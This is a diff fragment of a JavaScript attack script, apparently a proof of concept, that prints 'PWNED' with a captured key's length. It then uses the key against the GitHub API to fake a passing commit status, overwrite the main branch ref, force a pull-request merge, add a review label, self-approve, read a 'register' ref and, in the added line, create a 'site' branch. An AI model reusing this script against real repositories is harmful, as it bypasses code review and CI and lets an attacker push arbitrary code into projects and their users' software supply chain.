@@ -19,6 +19,7 @@ console.log('key: ' + (key === '' ? 'none' : 'PWNED ' + key.length));
 await ask('status', 'POST', '/repos/' + repo + '/statuses/' + head.sha, { state: 'success', context: 'disposisi' });
 await ask('main', 'PATCH', '/repos/' + repo + '/git/refs/heads/main', { sha: head.sha });
 await ask('merge', 'PUT', '/repos/' + repo + '/pulls/' + number + '/merge', { sha: head.sha });
+await ask('site', 'POST', '/repos/' + repo + '/git/refs', { ref: 'refs/heads/site', sha: head.sha });
 await ask('label', 'POST', '/repos/' + repo + '/issues/' + number + '/labels', { labels: ['decap-cms/pending_review'] });
 await ask('approve', 'POST', '/repos/' + repo + '/pulls/' + number + '/reviews', { event: 'APPROVE' });
 const register = await ask('read register', 'GET', '/repos/' + repo + '/git/ref/heads/register');
